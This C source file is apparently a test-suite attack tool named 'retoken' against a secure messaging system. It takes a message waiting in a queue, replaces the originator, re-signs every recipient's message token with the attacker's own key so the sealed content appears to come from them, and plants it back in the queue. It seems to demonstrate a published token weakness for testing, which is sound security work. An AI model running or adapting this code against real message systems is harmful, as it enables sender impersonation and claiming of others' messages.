/* SPDX-License-Identifier: Apache-2.0 */
/*
 * retoken QUEUE KEY ADDRESS: claims the newest message that waits in a queue for
 * another author, who cannot read it.  All that its tokens hold, the encrypted
 * key and the content integrity check included, goes into tokens signed with
 * his own key; the sealed content stays as it is [Mitchell, Rush, Walker 5.1].
 */
#include "lib/mhs/orname.h"
#include "lib/sec/der.h"
#include "lib/sec/token.h"
#include "tests/support/stolen.h"

#define ASYMMETRIC_TOKEN	"\x80\x04\x56\x03\x06\x00"

/* The same signed part under another signature. */
static FALLIBLE sign_again(struct bytes octets, const struct private_key *key, struct buf *out)
{
	struct bytes algorithm = crypto_signature_algorithm(public_key_type(private_key_public(key)));
	AUTO(buf_free) struct buf signature = { 0 };
	struct token token;

	TRY(token_decode(octets, &token));
	if (!bytes_equal(algorithm, token.algorithm))
		return FAIL(ST_USAGE, 0, "the key is of another type than the author's");
	TRY(crypto_sign(key, &token.tbs, 1, &signature));
	buf_put(out, token.tbs);
	buf_put(out, algorithm);
	der_put_bits(out, BER_BIT_STRING, buf_view(&signature));
	ber_wrap(out, 0, BER_SEQUENCE);
	ber_wrap(out, 0, BER_CONTEXT(1));
	buf_insert(out, 0, BYTES(ASYMMETRIC_TOKEN));
	ber_wrap(out, 0, BER_SEQUENCE);
	return OK;
}

static FALLIBLE claim(struct envelope *env, const struct private_key *key, const char *author)
{
	TRY(orname_tlv_from_text(env->arena, author, &env->originator));
	TRY(envelope_renumber(env));
	for (size_t i = 0; i < env->recipient_count; i++) {
		struct ext_set *extensions = &env->recipients[i].extensions;
		AUTO(buf_free) struct buf token = { 0 };

		TRY_DOING(sign_again(ext_value(extensions, EXT_MESSAGE_TOKEN), key, &token),
			  "cannot sign the token of recipient %u", env->recipients[i].number);
		ext_put(env->arena, extensions, EXT_MESSAGE_TOKEN, buf_view(&token));
	}
	return OK;
}

static FALLIBLE run(char **words)
{
	AUTO(private_key_free) struct private_key *key = NULL;
	AUTO(stolen_close) struct stolen message;

	TRY(stolen_open(words[0], &message));
	TRY(private_key_load(words[1], &key_is_plain, &key));
	TRY(claim(message.env, key, words[2]));
	TRY(queue_plant(message.db, message.env, message.next_hop));
	printf("the same sealed content waits as a message from %s\n", words[2]);
	return OK;
}

int main(int argc, char **argv)
{
	return attack_main(argc, argv, 3, "retoken QUEUE KEY ADDRESS", run);
}
